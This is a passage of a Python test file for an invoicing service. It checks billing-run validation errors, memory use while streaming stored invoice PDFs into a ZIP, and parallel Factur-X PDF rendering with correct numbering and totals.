    run = client.post("/api/v1/billing-runs/", json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
                      headers=staff).get_json()
    before = snapshot(session)
    body = assert_problem(client.post(f"/api/v1/billing-runs/{run['id']}/issue", headers=staff), 422)
    assert f"funder {a.funder.id}.siren" in body["errors"]
    assert snapshot(session) == before


def test_run_zip_memory_stays_flat(app, world, session):
    """Hundreds of stored PDFs go through the ZIP a chunk at a time, never all at once."""
    import os
    import tracemalloc

    from logipool.auth import Principal
    from logipool.models import InvoiceKind, InvoiceStatus
    from logipool.services.invoicing import zip_run

    a = world.a
    run = BillingRun(coordination_id=a.coordination.id, period_start=date(2026, 11, 1),
                     period_end=date(2026, 11, 30), issued_at=datetime.now(UTC))
    session.add(run)
    session.flush()
    count, size = 300, 64 * 1024  # 19 MiB of incompressible "PDFs"
    for n in range(1, count + 1):
        session.add(Invoice(coordination_id=a.coordination.id, member_id=a.member.id, kind=InvoiceKind.INVOICE,
                            status=InvoiceStatus.ISSUED, number=f"2026-{n:06d}", issue_date=date(2026, 12, 1),
                            billing_run_id=run.id, pdf=os.urandom(size)))
    session.commit()
    session.expunge_all()
    principal = Principal(user_id=a.user_ids[Role.AUDITOR], email="auditor@alpha.example", grant_id=0,
                          coordination_id=a.coordination.id, role=Role.AUDITOR, member_id=None,
                          platform_admin=False, token_id=0)
    with app.app_context():
        tracemalloc.start()
        written = 0
        for piece in zip_run(session, principal, run.id, chunk=20):
            written += len(piece)
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert written > count * size
    assert peak < 6 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB for {written / 2**20:.1f} MiB written"


def test_a_large_run_renders_on_every_core_with_the_same_result(client, world, session, staff, monkeypatch):
    """From PARALLEL_FROM invoices on, the PDFs are rendered in spawned processes: numbers in
    order, one valid Factur-X PDF each, totals equal to the charges."""
    from logipool.services import invoicing
    from tests.factories import make_member

    monkeypatch.setattr(invoicing, "PARALLEL_FROM", 3)
    a = world.a
    make_billable(session, a)
    extra = [make_member(session, a.coordination, f"asso-{i}") for i in range(3)]
    for i, m in enumerate([a.member, a.other_member, *extra]):
        charge(session, a, 1000 + i, member=m)
    session.commit()
    issued = run_and_issue(client, staff)
    fresh(session)
    invoices = session.scalars(select(Invoice).order_by(Invoice.number)).all()
    year = date.today().year
    assert [i.number for i in invoices] == [f"{year}-{n:06d}" for n in range(1, 6)] and len(issued["invoices"]) == 5
    for invoice in invoices:
        assert invoice.pdf.startswith(b"%PDF-") and invoice.pdf.count(b"%PDF-") == 1
        assert hashlib.sha256(invoice.pdf).hexdigest() == invoice.pdf_sha256
        assert xml_number_and_total(invoice.pdf) == (invoice.number, "380", f"{invoice.total_cents / 100:.2f}")
        assert invoice.total_cents == charges_total_cents(session, invoice)
